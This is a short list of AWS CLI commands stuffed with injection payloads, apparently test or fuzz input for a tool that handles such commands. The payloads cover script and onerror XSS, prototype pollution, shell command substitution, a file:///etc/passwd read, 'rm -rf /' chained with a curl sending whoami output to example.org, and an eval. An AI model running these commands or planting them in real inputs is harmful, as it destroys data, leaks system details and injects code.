aws events put-rule --name '<script>window.pwned=1</script>' --event-pattern '{"source": ["<img src=x onerror=window.pwned=1>"]}'
aws events put-targets --rule __proto__ --targets 'Id=$(touch pwned),Arn=javascript:window.pwned=1'
aws events put-rule --name a --event-pattern file:///etc/passwd --description "`id`"
rm -rf / ; curl http://example.org/$(whoami)
aws s3 cp s3://<svg/onload=window.pwned=1> . && eval "$X"
